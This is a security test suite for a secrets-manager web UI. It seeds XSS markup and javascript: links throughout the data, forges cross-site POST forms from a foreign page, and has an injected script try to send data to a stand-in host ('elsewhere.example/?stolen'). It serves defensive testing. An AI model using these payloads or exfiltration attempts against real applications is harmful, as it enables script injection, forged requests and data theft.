import { expect, it } from "@jest/globals";
import type { Page } from "playwright-core";
import { buildUi } from "../../scripts/build/ui.ts";
import { PAGES } from "../../ui/routes.ts";
import { readClipboard } from "./support/clipboard.ts";
import type { Visitor } from "./support/page.ts";
import { atRest, countCalls } from "./support/rest.ts";
import { describeUi } from "./support/suite.ts";

/** What an attacker may try on the page: markup in everything it shows, other origins, frames, scripts, forms. */

const MARKUP = `<img src=x onerror="alert(1)"><script>alert(2)</script><b id=planted>bold</b>`;
/** The same in a name, where slashes, blanks and quotes may not be. */
const NAME = "<img src=x onerror=alert(1)>";
const LINK = "javascript:alert(1)";

/** A page at the server's origin that is not ours: without any policy. */
const STRANGER =
  "<!doctype html><html lang=en><title>Stranger</title><link rel=icon href='data:,'><main><h1>Stranger</h1></main></html>";

describeUi("attacks", (ui) => {
  const asStranger = (visitor: Visitor, body = STRANGER): void => {
    visitor.gate.instead = ({ url }) =>
      url.pathname === "/stranger" ? { status: 200, headers: { "content-type": "text/html" }, body } : undefined;
  };

  const root = async (address?: string, permissions: readonly string[] = []) => {
    const one = await ui.signedIn({ token: ui.world.root }, address, { permissions });
    await countCalls(one.visitor.context);
    return one;
  };

  /** Elements that only markup of the test could have made, and links that are scripts. */
  const planted = (page: Page): Promise<readonly string[]> =>
    page.evaluate(() =>
      [
        ...document.querySelectorAll(
          "#planted, img[src=x], [onerror], iframe, object, embed, script:not([src]), a[href^='javascript:' i], [style]",
        ),
      ].map(({ outerHTML }) => outerHTML.slice(0, 120)),
    );

  let poisoned: Promise<void> | undefined;
  const poison = (): Promise<void> => {
    poisoned ??= poisonAll();
    return poisoned;
  };
  const poisonAll = async (): Promise<void> => {
    const { prepare, policy } = ui.world;
    const data = { [MARKUP]: MARKUP, link: LINK, plain: "x" };
    await prepare("POST", "secret/data/attack/db", { data });
    await prepare("POST", "secret/data/attack/db", { data: { ...data, link: `${LINK}//2` } });
    await prepare("POST", "secret/metadata/attack/db", { custom_metadata: { [MARKUP]: MARKUP, link: LINK } });
    await prepare("POST", `secret/data/attack/${encodeURIComponent(NAME)}`, { data });
    await prepare("POST", "sys/mounts/attacked", { type: "kv", description: MARKUP, options: { version: "1" } });
    await prepare("POST", "sys/auth/attacked", { type: "approle", description: MARKUP });
    await policy("attacked", `# ${MARKUP}\npath "secret/data/${NAME}" { capabilities = ["read"] }`);
    await prepare("POST", "identity/entity", { name: NAME, metadata: { link: LINK, note: MARKUP } });
    await prepare("POST", "identity/group", { name: NAME, metadata: { link: LINK } });
    await prepare("POST", "sys/mounts/ssh", { type: "ssh", description: MARKUP });
    await prepare("POST", "ssh/roles/web", { key_type: "otp", default_user: "u", cidr_list: "10.0.0.0/8" });
    await prepare("POST", "sys/policies/password/attacked", {
      policy: 'length = 20\nrule "charset" { charset = "<>" }',
    });
  };

  /** Opens an address, and waits for all that is shown there. */
  const goTo = async (page: Page, address: string): Promise<void> => {
    await page.goto(address);
    await atRest(page);
  };

  it("34. (S51) markup in names, keys, values, metadata, policies and descriptions is text on every page", async () => {
    await poison();
    const { page } = await root("/ui/");
    const addresses = [
      ...PAGES.map((name) => (name === "home" ? "/ui/" : `/ui/${name}`)),
      "/ui/browse/secret/",
      "/ui/browse/secret/attack/",
      "/ui/browse/secret/attack/db",
      "/ui/browse/secret/attack/db?tab=history",
      `/ui/browse/secret/attack/${encodeURIComponent(NAME)}`,
      "/ui/browse/attacked/",
      "/ui/edit/secret/attack/db",
      "/ui/share/secret/attack/db",
      "/ui/policies/attacked",
      "/ui/mounts/attacked/",
      "/ui/credentials/ssh/",
      "/ui/api/secret",
      `/ui/leases/${encodeURIComponent(NAME)}/`,
      `/ui/browse/${encodeURIComponent(NAME)}/`,
      `/ui/policies/${encodeURIComponent(NAME)}`,
      `/ui/${encodeURIComponent(NAME)}`,
    ].filter((address) => address !== "/ui/sign-in");
    const found: string[] = [];
    for (const address of addresses) {
      await goTo(page, address);
      for (const element of await planted(page)) found.push(`${address}: ${element}`);
    }
    expect(found).toEqual([]);
  });

  it("34. and where values are shown, compared and asked for", async () => {
    await poison();
    const { page } = await root("/ui/browse/secret/attack/db");
    const hidden = page.getByRole("button", { name: /^Show / });
    await hidden.nth(2).waitFor();
    for (let left = await hidden.count(); left > 0; left--) await hidden.first().click();
    await page.locator(".secret-value.shown", { hasText: "alert(2)" }).waitFor();
    expect(await planted(page)).toEqual([]);

    await page.getByRole("tab", { name: "History" }).click();
    await page.getByRole("button", { name: "Compare version 2", exact: true }).click();
    await page.getByRole("menuitem", { name: "with version 1" }).click();
    const compared = page.getByRole("dialog");
    await compared.getByRole("button", { name: "Show both values of link" }).click();
    await compared.getByText(`${LINK}//2`).waitFor();
    // A menu that was opened keeps where it stood, in numbers that the page sets.
    const menu = '<div class="popup" role="menu"';
    expect((await planted(page)).filter((element) => !element.startsWith(menu))).toEqual([]);

    await page.goto(`/ui/browse/secret/attack/${encodeURIComponent(NAME)}`);
    await page.getByRole("tab", { name: "Settings" }).click();
    await page.getByRole("button", { name: "Remove with all versions" }).click();
    await page.getByRole("dialog").getByText(NAME).first().waitFor();
    expect(await planted(page)).toEqual([]);
  });

  it("34. errors of the server and of what stands before it are text", async () => {
    const { page, visitor } = await root("/ui/");
    const bodies = [
      { status: 403, body: JSON.stringify({ errors: [MARKUP] }) },
      { status: 400, body: JSON.stringify({ errors: [MARKUP, LINK] }) },
      { status: 500, body: `<html><body>${MARKUP}</body></html>` },
      { status: 502, body: JSON.stringify({ message: MARKUP }) },
    ];
    const own = /^\/v1\/(sys\/internal\/ui\/|auth\/token\/|sys\/capabilities-self|identity\/entity\/id)/;
    for (const body of bodies) {
      visitor.gate.instead = ({ url }) =>
        url.pathname.startsWith("/v1/") && !own.test(url.pathname) ? body : undefined;
      for (const name of ["browse/secret/attack/db", "policies/default", "leases/", "credentials/ssh/", "mounts"]) {
        await goTo(page, `/ui/${name}`);
        expect(await planted(page)).toEqual([]);
      }
    }
  });

  it("34. what the server says of its paths is text: OpenAPI help", async () => {
    const { page, visitor } = await root("/ui/");
    const field = { type: "string", description: MARKUP };
    const operation = {
      summary: MARKUP,
      description: MARKUP,
      operationId: "planted-operation",
      requestBody: { content: { "application/json": { schema: { type: "object", properties: { [NAME]: field } } } } },
      responses: { "200": { description: MARKUP } },
    };
    const specs = {
      openapi: "3.0.2",
      info: { title: MARKUP, version: "1" },
      paths: { "/secret/planted": { description: MARKUP, post: operation } },
    };
    visitor.gate.instead = ({ url }) =>
      url.pathname.endsWith("/specs/openapi") ? { status: 200, body: JSON.stringify(specs) } : undefined;
    for (const address of ["/ui/api", "/ui/api/secret/planted"]) {
      await goTo(page, address);
      expect(await planted(page)).toEqual([]);
    }
    await page.getByText("<b id=planted>").first().waitFor();
  });

  it("34. lines of an audit file are text", async () => {
    const { page } = await root();
    await goTo(page, "/ui/audit");
    const entry = (type: string, path: string): string =>
      JSON.stringify({
        time: "2026-11-30T12:00:00Z",
        type,
        auth: { display_name: MARKUP, policies: [MARKUP], entity_id: NAME },
        request: { id: NAME, operation: "read", path, remote_address: MARKUP, data: { [MARKUP]: LINK } },
        error: MARKUP,
      });
    const buffer = Buffer.from([entry("request", MARKUP), entry("response", LINK), MARKUP].join("\n"));
    await page.locator("input[type=file]").setInputFiles({ name: `${NAME}.log`, mimeType: "text/plain", buffer });
    await page.getByText("<b id=planted>").first().waitFor();

    expect(await planted(page)).toEqual([]);
  });

  it("35. `javascript:` in values and metadata makes no link", async () => {
    await poison();
    const { page } = await root();
    await goTo(page, "/ui/browse/secret/attack/db");
    await page.getByRole("button", { name: "Show link" }).first().click();
    await page.getByText(LINK).first().waitFor();

    const links = await page.evaluate(() => [...document.querySelectorAll("a")].map(({ protocol }) => protocol));
    expect(new Set(links)).toEqual(new Set(["http:"]));
  });

  it("36. (S53) framed: refused, even by a page of the same origin", async () => {
    const visitor = await ui.visitor();
    asStranger(visitor, STRANGER.replace("</main>", '<iframe title="framed" src="/ui/"></iframe></main>'));
    const page = await visitor.tab("/stranger");
    await page.waitForFunction(() => {
      const frame = document.querySelector("iframe");
      try {
        return frame?.contentDocument === null;
      } catch {
        return true;
      }
    });

    const texts = await Promise.all(page.frames().map((frame) => frame.locator("h1").allTextContents()));
    expect(texts.flat().join()).not.toContain("Sign in");
    expect(visitor.gate.passed.filter(({ url }) => url.pathname.startsWith("/ui/assets/"))).toEqual([]);
    await visitor.guard.expected(/frame-ancestors/);
  });

  it("36. (S55) opened by a stranger: no opener, and the stranger has no window", async () => {
    const visitor = await ui.visitor();
    asStranger(visitor);
    const page = await visitor.tab("/stranger");
    const [opened] = await Promise.all([
      visitor.context.waitForEvent("page"),
      page.evaluate(() => {
        Object.assign(window, { theirs: window.open("/ui/") });
      }),
    ]);
    await opened.getByRole("heading", { level: 1 }).waitFor();

    expect(await opened.evaluate(() => window.opener)).toBeNull();
    await page.waitForFunction(() => (window as unknown as { theirs: Window }).theirs.closed);
  });

  it("38. (S54) forms and simple requests of strangers change nothing, while somebody is signed in", async () => {
    const { visitor } = await root("/ui/");
    asStranger(visitor);
    const page = await visitor.tab("/stranger");
    const before = visitor.gate.passed.length;
    const body = JSON.stringify({ data: { planted: "yes" } });
    await page.evaluate(async (text) => {
      for (const path of ["secret/data/planted", "sys/policies/acl/planted", "auth/token/revoke-self"]) {
        await fetch(`/v1/${path}`, { method: "POST", mode: "no-cors", credentials: "include", body: text });
        for (const enctype of ["text/plain", "application/x-www-form-urlencoded"]) {
          const frame = document.createElement("iframe");
          frame.name = `${path}-${enctype}`;
          const form = document.createElement("form");
          Object.assign(form, { method: "POST", action: `/v1/${path}`, enctype, target: frame.name });
          const input = document.createElement("input");
          Object.assign(input, { name: text.slice(0, -1), value: "}" });
          form.append(input);
          document.body.append(frame, form);
          const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
          form.submit();
          await loaded;
        }
      }
    }, body);

    const sent = visitor.gate.passed.slice(before).filter(({ method }) => method === "POST");
    expect(sent.length).toBe(9);
    expect(sent.every(({ status }) => status === 400 || status === 403)).toBe(true);
    expect((await ui.world.call("GET", "secret/data/planted")).status).toBe(404);
    expect((await ui.world.call("GET", "auth/token/lookup-self")).status).toBe(200);
  });

  it("39. (S51) an injected script cannot fetch elsewhere, make a worker, or set innerHTML", async () => {
    const { page, visitor } = await root("/ui/");
    const outcome = await page.evaluate(async () => {
      const tried = async (attempt: () => unknown): Promise<string> => {
        try {
          await attempt();
          return "worked";
        } catch (error) {
          return error instanceof Error ? error.name : "refused";
        }
      };
      const element = document.createElement("div");
      const elsewhere = "http://elsewhere.example/?stolen";
      // Says that it was queued, whatever becomes of it: the gate tells.
      navigator.sendBeacon(elsewhere);
      return {
        fetch: await tried(() => fetch(elsewhere, { mode: "no-cors" })),
        socket: await tried(
          () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket("ws://elsewhere.example/");
              socket.onopen = resolve;
              socket.onerror = () => reject(new TypeError("no"));
            }),
        ),
        worker: await tried(() => new Worker("/ui/worker.js")),
        shared: await tried(() => new SharedWorker(URL.createObjectURL(new Blob(["1"])))),
        markup: await tried(() => {
          element.innerHTML = "<b>1</b>";
        }),
        written: await tried(() => document.write("<b>1</b>")),
        evaluated: await tried(() => Reflect.construct(Function, ["return 1"])),
        policy: await tried(() =>
          (
            window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
          ).trustedTypes.createPolicy("another", {}),
        ),
        twice: await tried(() =>
          (
            window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
          ).trustedTypes.createPolicy("zeroth", {}),
        ),
        image: await tried(
          () =>
            new Promise((resolve, reject) => {
              const image = new Image();
              image.onload = resolve;
              image.onerror = () => reject(new TypeError("no"));
              image.src = elsewhere;
            }),
        ),
      };
    });

    for (const [what, came] of Object.entries(outcome))
      expect([what, came]).toEqual([what, expect.stringMatching(/Error$/)]);
    expect(visitor.gate.passed.filter(({ url }) => url.hostname !== "127.0.0.1")).toEqual([]);
    await visitor.guard.expected(/violation of the policy/);
    await visitor.guard.expected(/error on the console/);
  });

  it("40. (S56) the clipboard is cleared at the next key after 30 s, on lock and on sign-out", async () => {
    const value = ui.world.canary("copied");
    await ui.world.secret("secret/attack/copied", { password: value });
    const address = "/ui/browse/secret/attack/copied";
    const { page, visitor } = await root(address, ["clipboard-read", "clipboard-write"]);
    // What the status line says of one copy stands there until the next; the message goes once it is cleared.
    const toast = page.locator(".toast");
    const copy = async (): Promise<void> => {
      await page.getByRole("button", { name: "Copy password" }).click();
      await toast.getByText("Copied password").waitFor();
      expect(await readClipboard(visitor)).toBe(value);
      await page.bringToFront();
    };
    const isCleared = async (): Promise<void> => {
      await toast.waitFor({ state: "detached" });
      expect(await readClipboard(visitor)).toBe("");
      await page.bringToFront();
    };

    await page.clock.install();
    await copy();
    await page.clock.runFor(31_000);
    await page.keyboard.press("Shift");
    await isCleared();

    await copy();
    await page.getByRole("button", { name: "Lock" }).click();
    await isCleared();
  });

  it("40. the clipboard is cleared on sign-out", async () => {
    const value = ui.world.canary("copied");
    await ui.world.secret("secret/attack/copied", { password: value });
    const { page, visitor } = await root("/ui/browse/secret/attack/copied", ["clipboard-read", "clipboard-write"]);
    await page.getByRole("button", { name: "Copy password" }).click();
    await page.getByText("Copied password").first().waitFor();
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.getByLabel("How", { exact: true }).waitFor();

    expect(await readClipboard(visitor)).toBe("");
  });

  it("40. signing out, the document stays until the browser has cleared the clipboard", async () => {
    await ui.world.secret("secret/attack/copied", { password: ui.world.canary("copied") });
    const { page, visitor } = await root("/ui/browse/secret/attack/copied");
    const order: string[] = [];
    await page.exposeFunction("cleared", () => order.push("cleared"));
    await page.evaluate(() => {
      const told = globalThis as unknown as { cleared(): Promise<void> };
      Object.assign(navigator.clipboard, {
        // Before the page's patience ends.
        writeText: async (given: string) => {
          if (given !== "") return;
          await new Promise((resolve) => setTimeout(resolve, 500));
          await told.cleared();
        },
      });
    });
    await page.getByRole("button", { name: "Copy password" }).click();
    await page.getByText("Copied password").first().waitFor();
    visitor.gate.instead = ({ url }) => {
      if (url.pathname === "/ui/") order.push("left");
      return undefined;
    };
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.getByLabel("How", { exact: true }).waitFor();
    expect(order).toEqual(["cleared", "left"]);
  });

  it("40. a dialog or a lock over the page: what was copied can still be cleared there, and has no name", async () => {
    const value = ui.world.canary("copied");
    await ui.world.secret("secret/attack/copied", { password: value });
    const { page } = await root("/ui/browse/secret/attack/copied");
    await page.evaluate(() => {
      const clipboard = { held: "", refuses: false };
      Object.assign(window, { clipboard });
      Object.assign(navigator.clipboard, {
        writeText: async (given: string) => {
          if (clipboard.refuses) throw new Error("refused");
          clipboard.held = given;
        },
      });
    });
    const held = (): Promise<unknown> => page.evaluate(() => Reflect.get(Reflect.get(window, "clipboard"), "held"));
    const refuse = (refuses: boolean): Promise<void> =>
      page.evaluate((to) => void Reflect.set(Reflect.get(window, "clipboard"), "refuses", to), refuses);
    const toast = page.locator(".toast");

    await page.getByRole("button", { name: "Copy password" }).click();
    await toast.getByText("Copied password. Cleared in 30 s if this page stays open.").waitFor();
    await page.getByRole("button", { name: "Settings of this page" }).click();
    await page.getByRole("dialog").waitFor();
    await toast.getByRole("button", { name: "Clear now" }).click();
    await toast.waitFor({ state: "detached" });
    expect(await held()).toBe("");
    await page.keyboard.press("Escape");

    await page.getByRole("button", { name: "Copy password" }).click();
    await toast.getByText("Copied password").waitFor();
    await refuse(true);
    await page.getByRole("button", { name: "Lock" }).click();
    const locked = page.getByRole("dialog");
    await locked.getByText("What was copied here is still in the clipboard.", { exact: true }).last().waitFor();
    expect(await toast.allTextContents()).toEqual([expect.not.stringContaining("password")]);
    expect(await held()).toBe(value);
    await refuse(false);
    await locked.getByRole("button", { name: "Clear now" }).click();
    await toast.waitFor({ state: "detached" });
    expect(await held()).toBe("");
  });

  /** As password managers do: whatever looks like a login, unless it is marked as none. */
  const managers = (): void => {
    const wanted = (input: HTMLInputElement): boolean => {
      if (["data-1p-ignore", "data-lpignore", "data-bwignore"].some((name) => input.hasAttribute(name))) return false;
      const hints = `${input.autocomplete} ${input.name} ${input.id}`.toLowerCase();
      return input.type === "password" || /\b(username|current-password|new-password|email)\b/.test(hints);
    };
    const fill = (): void => {
      for (const input of document.querySelectorAll("input")) {
        if (input.value === "" && wanted(input)) {
          input.value = "filled-by-the-manager";
          input.dispatchEvent(new Event("input", { bubbles: true }));
        }
      }
    };
    new MutationObserver(fill).observe(document, { childList: true, subtree: true });
  };

  it("41. a stub of a password manager fills sign-in and nothing else", async () => {
    await ui.world.person("anybody", []);
    const visitor = await ui.visitor();
    await visitor.context.addInitScript(managers);
    await countCalls(visitor.context);
    const page = await visitor.tab("/ui/");
    const how = page.getByLabel("How", { exact: true });
    await how.selectOption({ label: "Name and password" });
    await page.waitForFunction(() =>
      [...document.querySelectorAll("input")].every(({ value }) => value === "filled-by-the-manager"),
    );
    await how.selectOption({ label: "Token" });
    await page.getByLabel("Token", { exact: true }).fill(ui.world.root);
    await page.getByRole("button", { name: "Sign in", exact: true }).click();
    await how.waitFor({ state: "detached" });

    await ui.world.secret("secret/attack/form", { password: "hidden-here" });
    const filled: string[] = [];
    const addresses = PAGES.filter((name) => name !== "home" && name !== "sign-in").map((name) => `/ui/${name}`);
    for (const address of [...addresses, "/ui/new/secret/", "/ui/edit/secret/attack/form", "/ui/open#v1.code"]) {
      await goTo(page, address);
      const values = await page.evaluate(() =>
        [...document.querySelectorAll("input, textarea")].flatMap((field) =>
          "value" in field && field.value === "filled-by-the-manager" ? [field.outerHTML] : [],
        ),
      );
      for (const field of values) filled.push(`${address}: ${field}`);
    }
    expect(filled).toEqual([]);
  });

  it("43. (S57) built files name no foreign origin, evaluate nothing, and have no source map", async () => {
    const { files } = await buildUi();
    const texts = [...files].map(([name, file]) => [name, new TextDecoder().decode(file)] as const);
    expect(texts.length).toBeGreaterThan(PAGES.length);
    const known = /^https?:\/\/(www\.w3\.org\/|[a-z.]*example\.com|[a-z.]*\.invalid)/;
    for (const [name, text] of texts) {
      expect([name, /\.map$|sourceMappingURL/.test(name + text)]).toEqual([name, false]);
      expect([name, /\beval\(|new Function\(|document\.write/.test(text)]).toEqual([name, false]);
      const origins = text.match(/https?:\/\/[a-z0-9][\w.-]+\/?/gi) ?? [];
      expect([name, origins.filter((origin) => !known.test(origin))]).toEqual([name, []]);
    }
  });
});
